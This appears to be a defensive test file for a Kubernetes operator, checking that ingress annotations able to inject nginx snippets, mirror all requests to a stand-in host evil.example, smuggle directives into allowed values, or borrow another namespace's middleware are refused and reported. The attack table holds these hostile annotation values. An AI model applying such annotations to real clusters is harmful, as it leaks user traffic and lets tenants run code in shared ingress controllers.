/** An attacker who may make an MCPServer tries to run code in the cluster's ingress controller by an annotation. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { desiredState } from "../../src/platform/operator/desired-state.ts";
import { operatorSettings } from "../../src/platform/operator/settings.ts";
import { type StatusInput, statusOf } from "../../src/platform/operator/status.ts";
import { recordedCluster } from "../support/recorded-cluster.ts";
import { kubeconfigOf, operatorKinds, startOperator } from "../support/recorded-operator.ts";
import { until } from "../support/until.ts";
import { deployment, mcpServer, service } from "../unit/platform/operator/samples.ts";

const nginx = "nginx.ingress.kubernetes.io";
const traefik = "traefik.ingress.kubernetes.io";

function planned(ingressAnnotations: Record<string, string>, env: Record<string, string> = {}) {
  const server = mcpServer({ ingressHost: "notes.example.com", ingressAnnotations });
  return { server, plan: desiredState(server, operatorSettings(env)) };
}

const attacks: Readonly<Record<string, Record<string, string>>> = {
  "a snippet of the server's configuration": { [`${nginx}/server-snippet`]: "return 200;" },
  "a snippet of the route's configuration": { [`${nginx}/configuration-snippet`]: "more_set_headers 'x';" },
  "a snippet for its logins": { [`${nginx}/auth-snippet`]: "lua_need_request_body on;" },
  "a login at another address": { [`${nginx}/auth-url`]: "http://evil.example/#;}" },
  "a copy of all requests to another address": {
    [`${nginx}/mirror-target`]: "https://evil.example/$request_uri",
  },
  "a certificate that is matched by a directive": { [`${nginx}/auth-tls-match-cn`]: "CN=(x\\n}\\n" },
  "a middleware of another namespace": { [`${traefik}/router.middlewares`]: "team-b-login@kubernetescrd" },
  "a host name of the company": { "external-dns.alpha.kubernetes.io/hostname": "www.example.com" },
  "an annotation of a controller nobody knows": {
    "haproxy.org/backend-config-snippet": "http-request lua.run",
  },
  "a directive in the value of an allowed name": { [`${nginx}/proxy-read-timeout`]: "60; return 200" },
  "a line of its own in the value of an allowed name": { [`${nginx}/proxy-body-size`]: "8m\n}" },
  "a name that an object has by itself": { constructor: "x" },
  "a name with other letters": { [`${nginx.toUpperCase()}/ssl-redirect`]: "true" },
};

for (const [what, annotations] of Object.entries(attacks))
  test(`an annotation that sets ${what} prevents the Ingress, and the status names the annotation`, () => {
    const { server, plan } = planned(annotations);
    assert.equal(plan.ingress, undefined);
    const observed = { deployment: deployment(1), service, ingress: undefined, pods: [] };
    const facts = { ...plan, server, observed, now: new Date() } as StatusInput;
    const { conditions, phase, ingressReady } = statusOf(facts);
    const refused = conditions.find(({ type }) => type === "IngressAnnotationsRefused");
    assert.equal(refused?.status, "True");
    for (const name of Object.keys(annotations))
      assert.ok(refused?.message.includes(`'${name}'`), refused?.message);
    assert.deepEqual([phase, ingressReady], ["PartiallyReady", false]);
  });

test("one refused annotation prevents the whole Ingress, because that annotation may have restricted access", () => {
  const { plan } = planned({
    [`${nginx}/ssl-redirect`]: "true",
    [`${nginx}/whitelist-source-range`]: "10.0.0.0/8",
  });
  assert.equal(plan.ingress, undefined);
});

test("an Ingress that got such an annotation from an earlier operator is removed", async (t) => {
  const metadata = { name: "notes", namespace: "team" };
  const labels = { app: "notes", "app.kubernetes.io/managed-by": "mcp-runtime" };
  const ingressAnnotations = { [`${nginx}/server-snippet`]: "return 200;" };
  const ingress = {
    apiVersion: "networking.k8s.io/v1",
    kind: "Ingress",
    metadata: { ...metadata, labels, annotations: ingressAnnotations },
  };
  const server = mcpServer({ ingressHost: "notes.example.com", ingressAnnotations });
  const cluster = await recordedCluster(t, operatorKinds, [server, ingress]);
  const operator = await startOperator(await kubeconfigOf(t, cluster), {});
  t.after(() => operator.close());
  await until(
    "the server is looked after",
    () => cluster.find("MCPServer", "notes")?.["status"] !== undefined,
  );
  assert.ok(cluster.find("Deployment", "notes"));
  assert.equal(cluster.find("Ingress", "notes"), undefined);
});

test("annotations of the list pass, and so do those that the administrator allows", () => {
  const common = {
    [`${nginx}/proxy-read-timeout`]: "3600",
    [`${traefik}/router.entrypoints`]: "web,websecure",
  };
  assert.deepEqual(
    planned(common).plan.ingress?.metadata.annotations?.[`${nginx}/proxy-read-timeout`],
    "3600",
  );
  const widened = { MCP_INGRESS_ANNOTATIONS: `${nginx}/auth-url, team.example/*` };
  const own = { [`${nginx}/auth-url`]: "https://login.example.com", "team.example/owner": "ada" };
  assert.ok(planned(own, widened).plan.ingress);
  assert.equal(planned({ [`${nginx}/auth-url-x`]: "1" }, widened).plan.ingress, undefined);
});
